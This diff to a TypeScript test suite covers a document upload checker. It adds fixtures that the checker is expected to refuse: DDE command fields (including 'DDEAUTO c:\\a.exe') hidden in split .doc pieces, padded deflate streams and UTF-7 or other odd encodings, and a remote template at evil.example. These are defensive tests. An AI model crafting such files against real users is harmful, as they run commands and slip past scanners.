@@ -52,7 +52,7 @@ function check(name: string, bytes: Buffer, kind = APPLICATION_DOCUMENT) {
   return checker.check(fileOf(name, bytes), kind);
 }
 
-/** The word for programs beside each sentence for people. */
+/** The reason code for each message. */
 const REASON_OF: ReadonlyArray<readonly [says: string, reason: FileReason]> = [
   ['This type of file', 'type'],
   ['something else', 'content'],
@@ -92,7 +92,7 @@ async function refusal(
   return { status: error.status, sentence: error.message };
 }
 
-/** The same compound file with the directory's chain leading back to its own start. */
+/** The same compound file with a loop in the directory's chain. */
 function withLoop(file: Buffer): Buffer {
   const looped = Buffer.from(file);
   const directory = looped.readUInt32LE(48);
@@ -131,6 +131,7 @@ describe('an accepted file', () => {
       'application/pdf',
     ],
     ['plan.doc', sampleDoc(), 'doc', 'application/msword'],
+    ['pieces.doc', sampleDoc(inPieces('Dear \x13PAGE\x14\x15 all')), 'doc', 'application/msword'],
     ['plan.ppt', samplePpt(), 'ppt', 'application/vnd.ms-powerpoint'],
     [
       'plan.docx',
@@ -157,7 +158,7 @@ describe('an accepted file', () => {
   });
 });
 
-/** What each is, and by what program, says the folder's README. */
+/** The README in that folder describes each file and the program that wrote it. */
 const WRITTEN_BY_PROGRAMS = path.join(import.meta.dirname, '../../../test/documents');
 
 it.each(readdirSync(WRITTEN_BY_PROGRAMS).filter((name) => !name.endsWith('.md')))(
@@ -201,14 +202,14 @@ describe('a file of another type is refused with 415', () => {
   });
 });
 
-/** Where a field, what it shows, or both of them begin or end. */
+/** Start, separator or end of a field. */
 function mark(type: string): string {
   return `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
 }
 
-/** A field as Word writes it, its instruction in so many runs. */
+/** A field as Word writes it, with its instruction split into runs. */
 function inField(...runs: string[]): string {
-  // A field within an instruction stands beside its text, not in it.
+  // A nested field is placed beside the text of the instruction.
   const text = runs.map((run) =>
     run.startsWith('<') || run.includes('<w:r>')
       ? run.replace(/^[^<]+|[^>]+$/g, (part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`)
@@ -221,14 +222,26 @@ function inDocument(content: string): Buffer {
   return sampleDocx({ 'word/document.xml': `<w:document><w:body>${content}</w:body></w:document>` });
 }
 
+/** Packs a part so that the first piece that is unpacked is its first byte: what comes before it are 64 KiB of nothing. */
+function packedAfterNothing(plain: Buffer): Buffer {
+  const block = (content: Buffer, isLast = false): Buffer => {
+    const head = Buffer.from([isLast ? 1 : 0, 0, 0, 0, 0]);
+    head.writeUInt16LE(content.length, 1);
+    head.writeUInt16LE(content.length ^ 0xffff, 3);
+    return Buffer.concat([head, content]);
+  };
+  const nothing = Array.from({ length: 13_106 }, () => block(Buffer.alloc(0)));
+  return Buffer.concat([...nothing, block(plain.subarray(0, 1)), block(plain.subarray(1), true)]);
+}
+
 const withField = (...runs: string[]) => inDocument(inField(...runs));
 
-/** A field in which something stands before the instruction. */
+/** A field with something before its instruction. */
 function withMark(before: string, instruction = 'DDE cmd'): Buffer {
   return inDocument(inField(instruction).replace('<w:instrText', `${before}<w:instrText`));
 }
 
-/** The stream of a .doc with this text in it. */
+/** The streams of a .doc with this text. */
 function inOldText(text: string, encoding: BufferEncoding = 'latin1'): Record<string, Buffer> {
   const stream = Buffer.alloc(4096);
   stream.writeUInt16LE(0xa5ec, 0);
@@ -237,7 +250,35 @@ function inOldText(text: string, encoding: BufferEncoding = 'latin1'): Record<st
   return { WordDocument: stream };
 }
 
-/** A picture that says a second time, and otherwise, how large it is. */
+/** The streams of a .doc whose text is in pieces of one character each, with other bytes between them. */
+function inPieces(text: string): Record<string, Buffer> {
+  const stream = Buffer.alloc(8192, '-');
+  sampleHeader().copy(stream);
+  const clx = Buffer.alloc(5 + 4 + 12 * text.length);
+  clx.writeUInt8(2, 0);
+  clx.writeUInt32LE(clx.length - 5, 1);
+  [...text].forEach((character, n) => {
+    const at = 2048 + 8 * n;
+    stream.write(character, at, 'latin1');
+    clx.writeUInt32LE(n + 1, 5 + 4 * (n + 1));
+    clx.writeUInt32LE((2 * at) | 0x40000000, 5 + 4 * (text.length + 1) + 8 * n + 2);
+  });
+  stream.writeUInt32LE(100, 0x01a2);
+  stream.writeUInt32LE(clx.length, 0x01a6);
+  return { WordDocument: stream, '0Table': Buffer.concat([Buffer.alloc(100), clx, Buffer.alloc(4096)]) };
+}
+
+/** The header of a .doc. */
+function sampleHeader(): Buffer {
+  const header = Buffer.alloc(1024);
+  header.writeUInt16LE(0xa5ec, 0);
+  header.writeUInt16LE(0x00c1, 2);
+  header.writeUInt16LE(14, 0x20);
+  header.writeUInt16LE(22, 0x3e);
+  return header;
+}
+
+/** A picture with a second header that states another size. */
 function withSecondHeader(png: Buffer): Buffer {
   const header = Buffer.from(png.subarray(8, 33));
   header.writeUInt32BE(60_000, 8);
@@ -246,6 +287,14 @@ function withSecondHeader(png: Buffer): Buffer {
 
 it.each([
   ['a chart’s table', { 'word/embeddings/Microsoft_Excel_Sheet.xlsx': 'PK' }],
+  [
+    'parts that say how they are encoded',
+    {
+      'word/header1.xml': '<?xml version="1.0" encoding="utf-8" standalone="yes"?><w:hdr/>',
+      'customXml/item1.xml': "<?xml version='1.0' encoding='windows-1252'?><a/>",
+      'customXml/_rels/item1.xml.rels': '<?xml version="1.0" encoding="US-ASCII"?><Relationships/>',
+    },
+  ],
   [
     'links, pictures from outside and the writer’s own template',
     {
@@ -304,7 +353,7 @@ it.each([
   await expect(check('plan.docx', sampleDocx(parts))).resolves.not.toThrow();
 });
 
-/** Objects with a script in a stream that is packed as `how` says. */
+/** Objects with a script in a stream compressed as `how` says. */
 function hiddenObjects(
   how = '/Filter /FlateDecode',
   pack: (data: Buffer) => Buffer | string = (data) => data,
@@ -321,6 +370,11 @@ function hiddenScript(...args: Parameters<typeof hiddenObjects>): Buffer {
 
 const SETTINGS = 'word/_rels/settings.xml.rels';
 const REMOTE = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"';
+
+/** A part that holds something only for a program that reads UTF-7. */
+function inUtf7(element: string): string {
+  return `<?xml version="1.0" encoding="UTF-7"?><${element}>+ADw-w:instrText+AD4-DDE cmd</${element}>`;
+}
 
 function relation(attributes: string): Buffer {
   return sampleDocx({ [SETTINGS]: `<Relationships><Relationship ${attributes}/></Relationships>` });
@@ -418,6 +472,8 @@ describe('a file that must be saved differently is refused with 400', () => {
     ['cut.doc', sampleDoc().subarray(0, 700), 'damaged'],
     ['program.doc', sampleDoc(inOldText('\x13 DDEAUTO c:\\\\a.exe \x14')), 'from another place'],
     ['program-in-utf16.doc', sampleDoc(inOldText('\x13dde cmd\x15', 'utf16le')), 'from another place'],
+    ['program-in-pieces.doc', sampleDoc(inPieces('Dear \x13DDEAUTO cmd\x14\x15')), 'from another place'],
+    ['pieces-elsewhere.doc', sampleDoc({ ...inPieces('Dear'), '0Table': Buffer.alloc(4096) }), 'damaged'],
     ['locked.ppt', samplePpt({ encrypted: true }), 'password'],
     ['macro.ppt', samplePpt({ records: pptRecord(0x0f, 0x07d0, macroInfo) }), 'macros'],
     ['locked.docx', lockedDocx(), 'password'],
@@ -471,6 +527,35 @@ describe('a file that must be saved differently is refused with 400', () => {
     ['long-tag.docx', inDocument(`<a b="${'<'.repeat(2 * MB)}`), 'damaged'],
     ['deep-fields.docx', inDocument('<w:fldChar w:fldCharType="begin"/>'.repeat(200)), 'another place'],
     ['utf16-part.docx', sampleDocx({ 'word/document.xml': Buffer.from('<x/>', 'utf16le') }), 'damaged'],
+    [
+      'byte-by-byte.docx',
+      sampleDocx({ 'word/document.xml': `\ufeff<w:document>${inField('DDE cmd')}</w:document>` }, undefined, {
+        pack: packedAfterNothing,
+      }),
+      'from another place',
+    ],
+    ['utf7-part.docx', sampleDocx({ 'word/document.xml': inUtf7('w:document') }), 'damaged'],
+    ['utf7-list.docx', sampleDocx({ [SETTINGS]: inUtf7('Relationships') }), 'damaged'],
+    [
+      'utf7-behind-blanks.docx',
+      sampleDocx({
+        'word/document.xml': inUtf7('w:document').replace('<?xml ', `<?xml ${' '.repeat(5_000)}`),
+      }),
+      'damaged',
+    ],
+    ['ebcdic-part.docx', sampleDocx({ 'word/document.xml': Buffer.from('4c6fa7949340', 'hex') }), 'damaged'],
+    [
+      'utf32-part.docx',
+      sampleDocx({ 'word/document.xml': Buffer.from('0000003c0000003f', 'hex') }),
+      'damaged',
+    ],
+    [
+      'second-name.docx',
+      sampleDocx({ [SETTINGS]: `<Relationships><Relationship ${REMOTE}/></Relationships>` }, undefined, {
+        unicodeNames: { [SETTINGS]: 'word/media/image1.png' },
+      }),
+      'damaged',
+    ],
     ['controls.docx', sampleDocx({ 'word/activeX/activeX1.xml': 'x' }), 'active controls'],
     ['template.docx', sampleDocx(withRemoteTemplate), 'template'],
     [
@@ -605,7 +690,7 @@ describe('damage anywhere', () => {
   it.each(originals)(
     'never breaks the check of %s: it is accepted or refused with a sentence',
     async (name, original) => {
-      // The first kilobytes hold the structure of all of these; every byte of it is changed once.
+      // The structure of all these files is in the first kilobytes; change every third byte of it once.
       for (let at = 8; at < Math.min(original.length, 1536); at += 3) {
         const changed = Buffer.from(original);
         changed.writeUInt8(changed.readUInt8(at) ^ 0xff, at);
